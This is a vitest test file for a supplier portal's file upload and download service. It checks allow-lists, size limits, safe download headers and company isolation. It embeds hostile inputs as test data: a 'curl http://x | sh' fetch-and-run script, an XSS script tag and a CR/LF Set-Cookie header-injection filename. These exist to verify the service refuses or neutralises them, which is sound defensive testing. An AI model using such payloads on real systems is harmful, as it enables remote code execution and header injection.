import fs from 'node:fs';
import path from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { createTestApp, type TestApp } from '../../../test/helpers';
import { expectCompanyIsolation } from '../../../test/scoping';
import { scopeOf } from '../../platform/tenancy/scope';
import { findActorByAccessToken } from '../../platform/auth/actor-repo';
import { attachFiles, listFiles, registerFileOwner } from './index';
import { pdfFonts, pdfPageTexts } from '../../../test/pdf-inspect';
import { elfFile, exeFile, multipart, pdfFile, pngFile, xlsxFile, type MultipartPart } from './test-fixtures';

let t: TestApp;
let tokens: Record<string, string>;

beforeAll(async () => {
  t = await createTestApp();
  tokens = {};
  for (const a of ['admin', '20000001', 'supa_admin', 'supa_clerk', 'supb_admin', 'fwd_admin']) tokens[a] = await t.login(a);
  // A record type of a test module: "rec-<companyId>" records belong to that company.
  registerFileOwner('test.record', {
    canAttach: async (_db, actor, id) => id === `rec-${actor.companyId}`,
    canRead: async (_db, actor, id) => id === 'rec-shared' && actor.companyType === 'supplier',
  });
});
afterAll(async () => {
  await t?.close();
});

function upload(url: string, parts: MultipartPart[], token?: string, headers: Record<string, string> = {}) {
  const { payload, contentType } = multipart(parts);
  return t.app.inject({
    method: 'POST',
    url,
    payload,
    headers: { 'content-type': contentType, ...(token ? { authorization: `Bearer ${token}` } : {}), ...headers },
  });
}

const file = (filename: string, content: Buffer, extra: Partial<MultipartPart> = {}): MultipartPart => ({ name: 'file', filename, content, ...extra });

interface Item {
  uid: string;
  fileKey: string;
  filename: string;
  url: string;
  type: string;
  fileSize: number;
  fileContentType: string;
}

describe('spec 000 §3/§5 upload: file item, allow-list, storage', () => {
  it('stores a PDF, a PNG and an xlsx and answers the file item shape', async () => {
    const pdf = pdfFile();
    const res = await upload('/api/files/upload', [file('适航证书 8130-3.pdf', pdf, { contentType: 'application/x-msdownload' })], tokens.supa_admin);
    expect(res.statusCode).toBe(200);
    const item = res.json().data as Item;
    expect(Object.keys(item).sort()).toEqual(['fileContentType', 'fileKey', 'fileSize', 'filename', 'type', 'uid', 'url']);
    expect(item).toMatchObject({ filename: '适航证书 8130-3.pdf', type: 'pdf', fileSize: pdf.length, fileContentType: 'application/pdf' });
    expect(item.fileKey).toMatch(/^[A-Za-z0-9_-]{32}$/);
    expect(item.url).toBe(`/api/files/${item.fileKey}`);

    // Server-generated storage key <yyyy>/<mm>/<uuid>, the bytes on disk, never the client's name.
    const row = await t.deps.db.selectFrom('files').selectAll().where('id', '=', item.fileKey).executeTakeFirstOrThrow();
    expect(row.storage_key).toMatch(/^\d{4}\/\d{2}\/[0-9a-f-]{36}$/);
    expect(fs.readFileSync(path.join(t.deps.config.filesDir, row.storage_key)).equals(pdf)).toBe(true);
    expect(row.company_id).not.toBe(2);

    const png = await upload('/api/files/upload', [file('photo.PNG', pngFile())], tokens.supa_admin);
    expect(png.json().data).toMatchObject({ type: 'png', fileContentType: 'image/png' });
    // Streamed: larger than the 1 MB JSON body limit.
    const large = await upload('/api/files/upload', [file('log.txt', Buffer.alloc(2_500_000, 'x'))], tokens.supa_admin);
    expect(large.statusCode).toBe(200);
    expect(large.json().data.fileSize).toBe(2_500_000);
    const xlsx = await upload('/api/files/upload', [file('报价单.xlsx', await xlsxFile())], tokens.supa_clerk);
    expect(xlsx.statusCode).toBe(200);
    expect(xlsx.json().data.fileContentType).toBe('application/vnd.openxmlformats-officedocument.spreadsheetml.sheet');
  });

  it('uploads several files in one request', async () => {
    const res = await upload('/api/files/uploads', [{ name: 'files', filename: 'a.pdf', content: pdfFile() }, { name: 'files', filename: 'b.png', content: pngFile() }], tokens.fwd_admin);
    expect(res.statusCode).toBe(200);
    expect((res.json().data as Item[]).map((i) => i.filename)).toEqual(['a.pdf', 'b.png']);
  });

  it('refuses an extension outside the default list, and programs even when a caller lists them', async () => {
    const before = await countFiles();
    for (const name of ['tool.exe', 'data.csv', 'noextension', 'run.sh']) {
      const res = await upload('/api/files/upload', [file(name, Buffer.from('hello'))], tokens.supa_admin, { 'accept-language': 'en' });
      expect(res.statusCode).toBe(400);
      expect(res.json()).toMatchObject({ errorKey: 'upload.bad_format', msg: 'Please upload a file of the correct format' });
    }
    const zh = await upload('/api/files/upload', [file('tool.exe', exeFile())], tokens.supa_admin, { 'accept-language': 'zh-CN' });
    expect(zh.json().msg).toBe('请上传正确格式的文件');
    const listed = await upload('/api/files/upload?allowed=exe,pdf', [file('tool.exe', exeFile())], tokens.supa_admin);
    expect(listed.json().errorKey).toBe('upload.bad_format');
    expect(await countFiles()).toBe(before);
  });

  it("honours the caller's own allow-list (spec 000 §5), from a form field or the query", async () => {
    const csv = await upload('/api/files/upload', [{ name: 'allowed', value: '.CSV, txt' }, file('parts.csv', Buffer.from('pn,qty\n2314-2,2\n'))], tokens.supa_admin);
    expect(csv.statusCode).toBe(200);
    expect(csv.json().data.fileContentType).toBe('text/csv');
    const pngOnlyPdf = await upload('/api/files/upload?allowed=pdf', [file('photo.png', pngFile())], tokens.supa_admin);
    expect(pngOnlyPdf.statusCode).toBe(400);
    expect(pngOnlyPdf.json().errorKey).toBe('upload.bad_format');
    const badList = await upload('/api/files/upload', [{ name: 'allowed', value: 'pdf,../x' }, file('a.pdf', pdfFile())], tokens.supa_admin);
    expect(badList.statusCode).toBe(400);
    expect(badList.json().fields[0].path).toMatch(/^allowed/);
  });

  it('refuses a renamed executable or a file whose content is not its format (issue 2 §10)', async () => {
    const before = await countFiles();
    const blobsBefore = countBlobs();
    const cases: [string, Buffer][] = [
      ['invoice.pdf', exeFile()],
      ['photo.jpg', elfFile()],
      ['notes.txt', Buffer.from('#!/bin/bash\ncurl http://x | sh\n')],
      ['scan.pdf', pngFile()],
      ['sheet.xlsx', pdfFile()],
    ];
    for (const [name, content] of cases) {
      const res = await upload('/api/files/upload', [file(name, content)], tokens.supa_admin, { 'accept-language': 'en' });
      expect(res.statusCode, name).toBe(400);
      expect(res.json()).toMatchObject({ errorKey: 'upload.disguised' });
      expect(res.json().fields[0]).toMatchObject({ path: 'file', errorKey: 'upload.disguised' });
    }
    const many = await upload('/api/files/uploads', [file('ok.pdf', pdfFile()), file('bad.pdf', exeFile())], tokens.supa_admin);
    expect(many.statusCode).toBe(400);
    // Nothing of a refused request stays: no rows, and no stray blobs (ok.pdf was stored, then removed).
    expect(await countFiles()).toBe(before);
    expect(countBlobs()).toBe(blobsBefore);
  });

  it('refuses a file of the size limit or more with 413 (spec 000 §5: under 100 MB; limit from config)', async () => {
    const limit = t.deps.config.maxUploadBytes;
    expect(limit).toBe(100 * 1024 * 1024);
    t.deps.config.maxUploadBytes = 4096;
    try {
      const exact = await upload('/api/files/upload', [file('big.txt', Buffer.alloc(4096, 'a'))], tokens.supa_admin, { 'accept-language': 'en' });
      expect(exact.statusCode).toBe(413);
      expect(exact.json()).toMatchObject({ errorKey: 'upload.too_large', msg: 'File size must not exceed 100MB' });
      const big = await upload('/api/files/upload', [file('big.txt', Buffer.alloc(200_000, 'a'))], tokens.supa_admin);
      expect(big.statusCode).toBe(413);
      const under = await upload('/api/files/upload', [file('small.txt', Buffer.alloc(4095, 'a'))], tokens.supa_admin);
      expect(under.statusCode).toBe(200);
    } finally {
      t.deps.config.maxUploadBytes = limit;
    }
  });

  it('answers clear 4xx for bad requests: anonymous, not multipart, no file, unknown field, option after the file', async () => {
    expect((await upload('/api/files/upload', [file('a.pdf', pdfFile())])).statusCode).toBe(401);
    const json = await t.call('POST', '/api/files/upload', { token: tokens.supa_admin, body: { file: 'x' } });
    expect(json.statusCode).toBe(415);
    expect(json.json().errorKey).toBe('upload.not_multipart');
    const none = await upload('/api/files/upload', [{ name: 'allowed', value: 'pdf' }], tokens.supa_admin);
    expect(none.statusCode).toBe(400);
    expect(none.json().errorKey).toBe('upload.no_file');
    const unknown = await upload('/api/files/upload', [{ name: 'hack', value: '1' }, file('a.pdf', pdfFile())], tokens.supa_admin);
    expect(unknown.statusCode).toBe(400);
    expect(unknown.json().fields[0]).toMatchObject({ path: 'hack', errorKey: 'validation.unknown_field' });
    const late = await upload('/api/files/upload', [file('a.pdf', pdfFile()), { name: 'allowed', value: 'pdf' }], tokens.supa_admin);
    expect(late.statusCode).toBe(400);
    expect(late.json().errorKey).toBe('upload.field_order');
    const two = await upload('/api/files/upload', [file('a.pdf', pdfFile()), file('b.pdf', pdfFile())], tokens.supa_admin);
    expect(two.statusCode).toBe(400);
    expect(two.json().errorKey).toBe('upload.too_many_files');
    const garbage = await t.app.inject({ method: 'POST', url: '/api/files/upload', payload: 'not really multipart', headers: { 'content-type': 'multipart/form-data; boundary=zzz', authorization: `Bearer ${tokens.supa_admin}` } });
    expect(garbage.statusCode).toBeGreaterThanOrEqual(400);
    expect(garbage.statusCode).toBeLessThan(500);
  });
});

function countBlobs(): number {
  const dir = t.deps.config.filesDir;
  return fs.existsSync(dir) ? fs.readdirSync(dir, { recursive: true }).filter((f) => fs.statSync(path.join(dir, String(f))).isFile()).length : 0;
}

async function countFiles(): Promise<number> {
  const r = await t.deps.db.selectFrom('files').select((eb) => eb.fn.countAll<string>().as('n')).executeTakeFirstOrThrow();
  return Number(r.n);
}

describe('issue 2 §10 download only for users allowed to see the file', () => {
  let pdfItem: Item;
  let txtItem: Item;
  beforeAll(async () => {
    pdfItem = (await upload('/api/files/upload', [file('供应商资质 "A" 2026.pdf', pdfFile())], tokens.supa_admin)).json().data;
    txtItem = (await upload('/api/files/upload', [file('x.txt', Buffer.from('<script>alert(1)</script>'))], tokens.supa_admin)).json().data;
  });

  it('serves the owner company (any of its users) with safe headers', async () => {
    for (const account of ['supa_admin', 'supa_clerk']) {
      const res = await t.call('GET', pdfItem.url, { token: tokens[account] });
      expect(res.statusCode).toBe(200);
      expect(res.rawPayload.equals(pdfFile())).toBe(true);
      expect(res.headers['content-type']).toBe('application/pdf');
      expect(res.headers['x-content-type-options']).toBe('nosniff');
      expect(res.headers['content-disposition']).toBe(
        `inline; filename="_____ _A_ 2026.pdf"; filename*=UTF-8''${encodeURIComponent('供应商资质 "A" 2026.pdf')}`,
      );
    }
    const txt = await t.call('GET', txtItem.url, { token: tokens.supa_admin });
    expect(txt.headers['content-type']).toBe('text/plain');
    expect(txt.headers['content-disposition']).toMatch(/^attachment; /);
    expect(txt.headers['content-security-policy']).toContain('sandbox');
  });

  it('passes the company-isolation check: owner 200, other supplier 404, staff 200', async () => {
    await expectCompanyIsolation(t, { request: (token) => t.call('GET', pdfItem.url, { token }), ownerAccount: 'supa_clerk', otherAccount: 'supb_admin', staffAccount: '20000002' });
  });

  it('answers 404 to another supplier and to a forwarder, 401 without a token', async () => {
    for (const account of ['supb_admin', 'fwd_admin']) {
      const res = await t.call('GET', pdfItem.url, { token: tokens[account] });
      expect(res.statusCode).toBe(404);
      expect(res.json().errorKey).toBe('common.not_found');
    }
    expect((await t.call('GET', pdfItem.url)).statusCode).toBe(401);
    expect((await t.call('GET', '/api/files/not-a-key', { token: tokens.supa_admin })).statusCode).toBe(404);
    expect((await t.call('GET', '/api/files/AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA', { token: tokens.admin })).statusCode).toBe(404);
  });

  it('lets staff read any file, also by an access_token download link (spec 001 §7)', async () => {
    expect((await t.call('GET', pdfItem.url, { token: tokens['20000001'] })).statusCode).toBe(200);
    const link = await t.call('GET', `${pdfItem.url}?access_token=${encodeURIComponent(tokens.admin)}`);
    expect(link.statusCode).toBe(200);
    expect(link.rawPayload.subarray(0, 5).toString()).toBe('%PDF-');
  });

  it('keeps quotes and CR/LF of a client file name out of the header', async () => {
    // Sent as a browser encodes it (evil%22name%0D%0ASet-Cookie...), and as curl does (backslash-escaped quote).
    const res = await upload('/api/files/upload', [file('evil"name\r\nSet-Cookie: a=1.pdf', pdfFile())], tokens.supa_admin);
    expect(res.statusCode).toBe(200);
    expect(res.json().data.filename).toBe('evil"nameSet-Cookie: a=1.pdf');
    const dl = await t.call('GET', res.json().data.url, { token: tokens.supa_admin });
    expect(dl.headers['set-cookie']).toBeUndefined();
    expect(dl.headers['content-disposition']).toBe(`inline; filename="evil_nameSet-Cookie: a=1.pdf"; filename*=UTF-8''evil%22nameSet-Cookie%3A%20a%3D1.pdf`);
    const curl = await upload('/api/files/upload', [file('', pdfFile(), { rawFilenameParam: 'filename="say \\"hi\\".pdf"' })], tokens.supa_admin);
    expect(curl.json().data.filename).toBe('say "hi".pdf');
  });

  it('answers 404 when the stored bytes are gone', async () => {
    const item = (await upload('/api/files/upload', [file('gone.pdf', pdfFile())], tokens.supa_admin)).json().data as Item;
    const row = await t.deps.db.selectFrom('files').select('storage_key').where('id', '=', item.fileKey).executeTakeFirstOrThrow();
    await t.deps.blobs.delete(row.storage_key);
    expect((await t.call('GET', item.url, { token: tokens.supa_admin })).statusCode).toBe(404);
  });
});

describe('issue 2 §10 files on records: owner rules, attachFiles, listFiles', () => {
  it('binds an upload to a record the owner rule allows; refuses unknown record types and others\' records', async () => {
    const ok = await upload('/api/files/upload', [{ name: 'ownerType', value: 'test.record' }, { name: 'ownerId', value: 'rec-' + (await companyOf('supa_admin')) }, file('a.pdf', pdfFile())], tokens.supa_admin);
    expect(ok.statusCode).toBe(200);
    const unknown = await upload('/api/files/upload', [{ name: 'ownerType', value: 'rfx' }, { name: 'ownerId', value: '1' }, file('a.pdf', pdfFile())], tokens.supa_admin);
    expect(unknown.statusCode).toBe(400);
    expect(unknown.json().fields[0]).toMatchObject({ path: 'ownerType', errorKey: 'upload.unknown_owner' });
    const foreign = await upload('/api/files/upload', [{ name: 'ownerType', value: 'test.record' }, { name: 'ownerId', value: 'rec-' + (await companyOf('supb_admin')) }, file('a.pdf', pdfFile())], tokens.supa_admin);
    expect(foreign.statusCode).toBe(404);
    const half = await upload('/api/files/upload', [{ name: 'ownerType', value: 'test.record' }, file('a.pdf', pdfFile())], tokens.supa_admin);
    expect(half.json().fields[0].path).toBe('ownerId');
  });

  it('attaches only files of the actor company (or staff), once, and lists them', async () => {
    const a = (await upload('/api/files/upload', [file('a.pdf', pdfFile())], tokens.supa_admin)).json().data as Item;
    const b = (await upload('/api/files/upload', [file('b.png', pngFile())], tokens.supb_admin)).json().data as Item;
    const actorA = (await findActorByAccessToken(t.deps.db, tokens.supa_admin, new Date()))!;
    const staff = (await findActorByAccessToken(t.deps.db, tokens.admin, new Date()))!;

    await expect(t.deps.db.transaction().execute((trx) => attachFiles(trx, { fileKeys: [a.fileKey, b.fileKey], ownerType: 'quote', ownerId: 7, scope: scopeOf(actorA) }))).rejects.toMatchObject({
      status: 400,
      errorKey: 'upload.not_uploaded',
    });
    const attached = await t.deps.db.transaction().execute((trx) => attachFiles(trx, { fileKeys: [a.fileKey], ownerType: 'quote', ownerId: 7, scope: scopeOf(actorA) }));
    expect(attached).toEqual([a]);
    // Attaching again to the same record is fine; to another record it is a conflict.
    await t.deps.db.transaction().execute((trx) => attachFiles(trx, { fileKeys: [a.fileKey], ownerType: 'quote', ownerId: '7', scope: scopeOf(staff) }));
    await expect(t.deps.db.transaction().execute((trx) => attachFiles(trx, { fileKeys: [a.fileKey], ownerType: 'quote', ownerId: 8, scope: scopeOf(staff) }))).rejects.toMatchObject({
      status: 409,
      errorKey: 'upload.already_attached',
    });
    expect(await listFiles(t.deps.db, 'quote', 7)).toEqual([a]);
    expect(await listFiles(t.deps.db, 'quote', 8)).toEqual([]);
  });

  it("lets an owner rule grant reading another company's file of a shared record", async () => {
    const staffDoc = (await upload('/api/files/upload', [file('rfx.pdf', pdfFile())], tokens['20000001'])).json().data as Item;
    expect((await t.call('GET', staffDoc.url, { token: tokens.supb_admin })).statusCode).toBe(404);
    const staff = (await findActorByAccessToken(t.deps.db, tokens['20000001'], new Date()))!;
    await t.deps.db.transaction().execute((trx) => attachFiles(trx, { fileKeys: [staffDoc.fileKey], ownerType: 'test.record', ownerId: 'rec-shared', scope: scopeOf(staff) }));
    expect((await t.call('GET', staffDoc.url, { token: tokens.supb_admin })).statusCode).toBe(200);
    expect((await t.call('GET', staffDoc.url, { token: tokens.fwd_admin })).statusCode).toBe(404);
  });
});

async function companyOf(account: string): Promise<number> {
  return (await t.deps.db.selectFrom('users').select('company_id').where('account', '=', account).executeTakeFirstOrThrow()).company_id;
}

describe('spec 000 §7 help manual download (obj 1, type 33)', () => {
  it('serves a real bilingual PDF help manual without signing in', async () => {
    const res = await t.call('GET', '/api/files/help-manual?obj=1&type=33');
    expect(res.statusCode).toBe(200);
    expect(res.headers['content-type']).toBe('application/pdf');
    expect(res.headers['content-disposition']).toContain(`filename*=UTF-8''${encodeURIComponent('供应商门户帮助手册.pdf')}`);
    const pdf = res.rawPayload;
    expect(pdf.subarray(0, 5).toString()).toBe('%PDF-');
    expect(pdf.subarray(-6).toString()).toBe('%%EOF\n');
    // Every object the cross-reference table points at is really there.
    const text = pdf.toString('latin1');
    const startxref = Number(/startxref\n(\d+)\n%%EOF\n$/.exec(text)![1]);
    expect(text.slice(startxref, startxref + 4)).toBe('xref');
    const offsets = [...text.slice(startxref).matchAll(/^(\d{10}) 00000 n $/gm)].map((m) => Number(m[1]));
    expect(offsets.length).toBeGreaterThan(8);
    offsets.forEach((o, i) => expect(text.slice(o, o + `${i + 1} 0 obj`.length)).toBe(`${i + 1} 0 obj`));
    // Issue 29: every font embedded, every string extractable with its separators, page n of m (D-520..D-523).
    const fonts = pdfFonts(pdf);
    expect(fonts.length).toBe(2);
    expect(fonts.every((f) => f.embedded && /^[A-Z]{6}\+NotoSansSC-(Regular|Bold)$/.test(f.baseFont))).toBe(true);
    const pages = pdfPageTexts(pdf);
    expect(pages.length).toBeGreaterThanOrEqual(2);
    const all = pages.join('\n');
    for (const s of ['供应商门户帮助手册', 'Supplier portal help manual', '1. 登录与账号安全', '1. Signing in and account security', '连续5次输错密码，账号将锁定至次日。', '“忘记密码”', '航材采购与维修有限公司', 'AeroSupply Maintenance & Procurement Co., Ltd.', '供应商门户帮助手册 · Supplier portal help manual', '7. Contact']) {
      expect(all).toContain(s);
    }
    pages.forEach((page, i) => {
      expect(page).toContain(`第 ${i + 1} 页，共 ${pages.length} 页 · Page ${i + 1} of ${pages.length}`);
      expect(page).toMatch(/生成时间 \d{4}-\d{2}-\d{2} \d{2}:\d{2}:\d{2} \(Asia\/Shanghai\) · Generated /);
    });
  });

  it('serves the purchase terms as type 34 and 404 for unknown documents', async () => {
    const terms = await t.call('GET', '/api/files/help-manual?obj=1&type=34');
    expect(terms.statusCode).toBe(200);
    expect(terms.rawPayload.subarray(0, 5).toString()).toBe('%PDF-');
    expect(pdfFonts(terms.rawPayload).every((f) => f.embedded)).toBe(true);
    const termsText = pdfPageTexts(terms.rawPayload).join('\n');
    for (const s of ['采购政策', '3. 质量与适航', 'FAA 8130-3、EASA Form 1 或 CAAC AAC-038', 'Incoterms 2020', '第 1 页，共 ']) expect(termsText).toContain(s);
    expect(terms.rawPayload.equals((await t.call('GET', '/api/files/help-manual?obj=1&type=33')).rawPayload)).toBe(false);
    const unknown = await t.call('GET', '/api/files/help-manual?obj=2&type=33');
    expect(unknown.statusCode).toBe(404);
    expect(unknown.json().errorKey).toBe('files.no_such_document');
    expect((await t.call('GET', '/api/files/help-manual?obj=1')).statusCode).toBe(400);
  });
});
